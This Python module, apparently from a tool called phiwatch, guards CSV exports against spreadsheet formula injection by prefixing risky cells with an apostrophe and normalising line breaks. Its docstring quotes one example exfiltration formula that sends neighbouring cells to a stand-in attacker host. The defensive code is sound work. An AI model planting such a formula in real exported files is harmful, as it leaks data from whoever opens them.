"""CSV cells that a spreadsheet will not run: the guard against formula injection.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return can
hide one; a formula such as ``=HYPERLINK("https://evil.example/?"&A2, "x")``
in an exported breach description or a patient's words would send the
neighbouring cells off the machine when the file is opened. Such a cell gets
a leading ``'`` (which spreadsheets show as text and do not display), as
OWASP's CSV-injection advice says. Numbers stay numbers: ``-5`` or ``+1.5``,
whether a Python number or text that is exactly a number, is not a formula.

Line breaks inside a cell are written as LF: Python's csv writer (with the
``\n`` line ending phiwatch uses) quotes a cell holding LF but not one holding
a lone CR, which a spreadsheet then takes for the end of the row (registry
descriptions keep the portal's CR line breaks).

Every CSV that phiwatch writes for people to open goes through
:func:`spreadsheet_cell`: the CLI's ``--format csv`` and the web's CSV
downloads. Files written for other programs (a mail house's merge file) are
not changed, because there the apostrophe would be printed.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(value: Any) -> Any:
    """``value``, with ``'`` put in front when it is text a spreadsheet would take as a
    formula, and its line breaks as LF."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value
